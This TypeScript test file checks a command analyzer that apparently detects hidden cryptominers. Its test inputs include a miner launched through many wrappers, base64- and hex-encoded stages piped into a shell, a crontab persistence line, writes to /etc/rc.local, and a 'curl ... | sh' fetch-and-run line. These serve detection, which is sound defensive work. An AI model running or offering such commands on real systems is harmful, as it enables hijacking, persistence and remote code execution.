import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { type Program, speaksOnly } from '#shared/analyzers/command/program.ts';
import { programs, readCommand, readScript } from '#shared/analyzers/command/reading.ts';

const run = (argv: readonly string[], exact = true): readonly Program[] => programs({ argv, exact });
/** The words of everything that runs and is no launcher, joined by blanks. */
const started = (argv: readonly string[], exact = true): readonly string[] =>
  run(argv, exact)
    .filter((program) => !program.launcher && program.argv.length > 0)
    .map((program) => program.argv.join(' '));
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** bash's way to write a blank without one. */
const IFS = '$' + '{IFS}';
const MINER = '/tmp/x -o pool.example.com:3333';
const WORDS = MINER.split(' ');

const LAUNCHED: readonly (readonly string[])[] = [
  ['nohup'],
  ['env', '-i', 'A=b'],
  ['sudo', '-u', 'root', 'A=b'],
  ['doas', '-u', 'root'],
  ['setsid', '-f'],
  ['nice', '-n', '-20'],
  ['nice', '-20'],
  ['ionice', '-c', '3'],
  ['chrt', '-f', '99'],
  ['taskset', '-c', '0-3'],
  ['timeout', '-k', '5', '1h'],
  ['stdbuf', '-oL'],
  ['screen', '-dmS', 'name'],
  ['screen', '-d', '-m'],
  ['tmux', 'new-session', '-d', '-s', 'name'],
  ['systemd-run', '--unit', 'u', '--on-calendar=hourly', '-p', 'Nice=1'],
  ['start-stop-daemon', '-S', '-b', '-x', '/tmp/x', '--'],
  ['xargs', '-n', '1'],
  ['chroot', '/host'],
  ['unshare', '-m', '--fork'],
  ['nsenter', '-t', '1', '-m', '--'],
  ['setarch', 'x86_64', '-R'],
  ['proot', '-r', '/root'],
  ['strace', '-f', '-o', '/dev/null'],
  ['busybox'],
  ['/lib64/ld-linux-x86-64.so.2', '--library-path', '/tmp'],
  ['flock', '-n', '/tmp/lock'],
  ['watch', '-n', '5'],
  ['ssh', '-o', 'BatchMode=yes', '-i', 'key', 'user@host.example'],
  ['docker', 'run', '-d', '--rm', '-e', 'A=b', '--name', 'n', '--entrypoint', '/tmp/x', 'image'],
  ['podman', 'exec', '-it', 'name'],
  ['ctr', '-n', 'k8s.io', 'run', '--rm', 'docker.io/library/alpine:3', 'id'],
  ['kubectl', 'run', 'n', '--image', 'alpine', '--'],
  ['sh', '/tmp/x'],
  ['python3', '/tmp/x'],
  ['nohup', 'env', 'A=b', 'nice', '-n', '19', 'taskset', '0x3'],
];

test('follows each launcher to what it starts', () => {
  for (const front of LAUNCHED) {
    const named = front.includes('/tmp/x') ? WORDS.slice(1) : WORDS;
    assert.ok(started([...front, ...named]).includes(MINER), front.join(' '));
  }
});

test('follows launchers that take shell text', () => {
  for (const argv of [
    ['bash', '-c', MINER],
    ['sh', '-xec', MINER],
    ['dash', '-e', '-c', MINER],
    ['bash', '-o', 'pipefail', '-lc', MINER],
    ['busybox', 'sh', '-c', MINER],
    ['su', '-', 'root', '-c', MINER],
    ['su', '-c', MINER, 'root'],
    ['runuser', '-l', 'root', '-c', MINER],
    ['flock', '/tmp/lock', '-c', MINER],
    ['bash', '-c', 'bash -c "$0"', MINER],
    ['python3', '-c', `import os; os.system("${MINER}")`],
    ['perl', '-e', `system '${MINER}'`],
    ['python3', '-c', `subprocess.Popen(['/tmp/x', '-o', 'pool.example.com:3333'])`],
    ['find', '/', '-maxdepth', '0', '-exec', 'sh', '-c', MINER, ';'],
  ]) {
    assert.ok(started(argv).includes(MINER), argv.join(' '));
  }
});

test('starts nothing for words that only name a session, a pod or a process', () => {
  for (const argv of [
    ['screen', '-r', 'xmrig'],
    ['tmux', 'attach', '-t', 'xmrig'],
    ['taskset', '-p', '0x3', '4711'],
    ['docker', 'logs', 'xmrig'],
    ['kubectl', 'get', 'pods', '-o', 'pool.yaml'],
    ['systemd-run'],
  ]) {
    assert.deepEqual(started(argv), [argv.join(' ')]);
  }
});

test('splits shell text at every operator and drops control words', () => {
  const text = `cd /tmp; a 1 && b 2 || c 3 | d 4 & (e 5; f 6)
if [ -f x ]; then g 7; fi; for i in 1 2; do h 8; done; while read l; do i 9; done; f() { j 10; }`;
  assert.deepEqual(
    started(['sh', '-c', text]).filter((line) => /\d/.test(line)),
    ['a 1', 'b 2', 'c 3', 'd 4', 'e 5', 'f 6', 'g 7', 'h 8', 'i 9', 'j 10'],
  );
});

test('keeps quoted operators as data', () => {
  assert.deepEqual(started(['sh', '-c', `echo 'a; b' "c && d" e\\;f`]), ['echo a; b c && d e;f']);
});

test('puts in variables that the text itself sets, and splits them as a shell does', () => {
  assert.ok(started(['sh', '-c', 'P=pool.example.com:3333; C="/tmp/x -o"; $C $P']).includes(MINER));
  assert.ok(started(['sh', '-c', '/tmp/x@-o@pool.example.com:3333'.replaceAll('@', IFS)]).includes(MINER));
  assert.deepEqual(started(['sh', '-c', 'a "$UNKNOWN"']), ['a $UNKNOWN']);
});

test('reads decoded stages as commands and says that they were decoded', () => {
  const stage = `cd /tmp; ${MINER}`;
  const hex = Buffer.from(stage).toString('hex');
  const escaped = [...Buffer.from(stage)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');
  for (const text of [
    `echo ${base64(stage)} | base64 -d | bash`,
    `{echo,${base64(stage)}}|{base64,-d}|{bash,-i}`,
    `eval "$(echo ${base64(stage)} | base64 --decode)"`,
    `sh -c "$(printf %s ${base64(stage)} | openssl base64 -d)"`,
    `base64 -d <<< ${base64(stage)} | sh`,
    `echo ${hex} | xxd -r -p | sh`,
    `printf '${escaped}' | sh`,
    `echo -e '${escaped}' | sh`,
  ]) {
    const found = run(['bash', '-c', text]).filter((program) => program.argv.join(' ') === MINER);
    assert.equal(found[0]?.source, 'decoded', text);
  }
});

test('finds base64 at any alignment, and UTF-16 inside it', () => {
  for (const glued of ['', 'x', 'xy', 'xyz']) {
    const text = `exec(b64decode('${glued}${base64(`cd /tmp; ${MINER}`)}'))`;
    assert.ok(started(['python3', '-c', text]).includes(MINER), `glued ${glued}`);
  }
  const wide = Buffer.from(MINER, 'utf16le').toString('base64');
  assert.ok(started(['pwsh', '-EncodedCommand', wide]).includes(MINER));
});

test('keeps the redirected text of a write with its path', () => {
  const cases: readonly (readonly [string, string, string, boolean])[] = [
    ['echo a b >> /etc/rc.local', '/etc/rc.local', 'a b\n', true],
    ['echo a | sudo tee -a /etc/x', '/etc/x', 'a\n', true],
    ["cat > /etc/x <<'EOF'\n$a\nEOF", '/etc/x', '$a\n', false],
    ['cat <<< "a" >/etc/x', '/etc/x', 'a\n', false],
    ["printf '%s\\n' a b > /etc/x", '/etc/x', 'a\nb\n', false],
    ["bash -c 'echo a' > /etc/x", '/etc/x', 'a\n', false],
    [`echo ${base64('a written line')} | base64 -d > /etc/x`, '/etc/x', 'a written line', false],
    ['(echo a; echo b) > /etc/x', '/etc/x', 'a\nb\n', false],
    ['echo a | dd of=/etc/x', '/etc/x', 'a\n', false],
  ];
  for (const [text, path, written, append] of cases) {
    const writes = run(['sh', '-c', text]).flatMap((program) => program.writes);
    assert.deepEqual(writes.at(-1), { path, append, text: written }, text);
  }
});

test('gives a command what an echo feeds it', () => {
  const text = '(crontab -l 2>/dev/null; echo "* * * * * /tmp/x") | crontab -';
  const fed = run(['sh', '-c', text]).find((program) => program.argv[1] === '-');
  assert.equal(fed?.input, '* * * * * /tmp/x\n');
});

test('tells image, variables and privilege of a container', () => {
  const [, inside] = run(
    'docker run -itd --cpus 4 -e A=1 --env=B=2 -eC=3 -v /:/host --privileged reg.example/a/b:1 -o p'.split(' '),
  );
  assert.deepEqual(inside?.environment, { A: '1', B: '2', C: '3' });
  assert.deepEqual(inside?.argv, ['-o', 'p']);
  assert.deepEqual(inside?.container, {
    kind: 'run',
    tool: 'docker',
    privileged: true,
    mounts: ['/:/host'],
    image: 'reg.example/a/b:1',
  });
});

test('marks what runs on another machine', () => {
  assert.equal(
    run(['ssh', 'host.example', 'nohup', '/tmp/x']).find((program) => program.path === '/tmp/x')?.remote,
    true,
  );
});

test('splits a command line that has lost its quotes, and keeps that it is inexact', () => {
  assert.deepEqual(started('sh -c cd /tmp && /tmp/x -o pool.example.com:3333 | tee log'.split(' '), false), [
    'cd /tmp',
    MINER,
    'tee log',
  ]);
  assert.deepEqual(started('cd /tmp; /tmp/x -o "pool.example.com:3333" &'.split(' '), false), ['cd /tmp', MINER]);
  assert.deepEqual(started(['sh', '-c', 'a b; c d'], false), ['a b', 'c d']);
  assert.ok(run('sh -c a b'.split(' '), false).every((program) => !program.exact));
});

test('resolves a relative program by cd and by the working directory', () => {
  assert.equal(run(['sh', '-c', 'cd /tmp/.a && ./b']).at(-1)?.path, '/tmp/.a/b');
  assert.equal(programs({ argv: ['./b'], workingDirectory: '/var/tmp' })[0]?.path, '/var/tmp/b');
});

test('reads shell text that stands alone', () => {
  assert.deepEqual(
    readScript('curl -s http://192.0.2.1/a | sh').programs.map((program) => program.argv[0]),
    ['curl', 'sh'],
  );
});

test('knows who merely speaks of programs, and believes no name in a writable folder', () => {
  const speaks = (argv: readonly string[], executable?: string): boolean => {
    const [first] = programs({ argv, exact: true, ...(executable === undefined ? {} : { executable }) });
    return first !== undefined && speaksOnly(first);
  };
  for (const line of [
    'grep -r xmrig /',
    'pkill -9 xmrig',
    'apt-get install xmrig',
    'vim config.json',
    'yara r.yar f',
  ]) {
    assert.ok(speaks(line.split(' ')), line);
  }
  assert.ok(speaks(['grep', 'x'], '/bin/busybox'));
  assert.ok(!speaks(['grep', '-o', 'pool.example.com:3333'], '/usr/bin/.x/m'));
  assert.ok(!speaks(['/tmp/grep', '-o', 'pool.example.com:3333']));
});

test('never throws and stays within its bounds on any words', () => {
  const shellish = fc.string({ unit: fc.constantFrom(...'ab \'"`$(){}[];&|<>\\\n#=-x/'), maxLength: 200 });
  fc.assert(
    fc.property(
      fc.array(fc.oneof(shellish, fc.string(), fc.constantFrom('sh', '-c', 'nohup', 'docker', 'run', '--'))),
      fc.boolean(),
      (argv, exact) => {
        const { programs: found } = readCommand({ argv, exact });
        assert.ok(found.length <= 2048);
      },
    ),
    { numRuns: 500 },
  );
});

test('stays bounded on hostile nesting', () => {
  for (const piece of ['(', '{ ', '$(', '`', '"$(', "'", 'sh -c "', '<(', '<<a\n', '${', 'a;', 'eval ', 'nohup ']) {
    const { programs: found } = readCommand({ argv: ['sh', '-c', piece.repeat(100_000 / piece.length)], exact: true });
    assert.ok(found.length <= 2048, piece);
  }
});
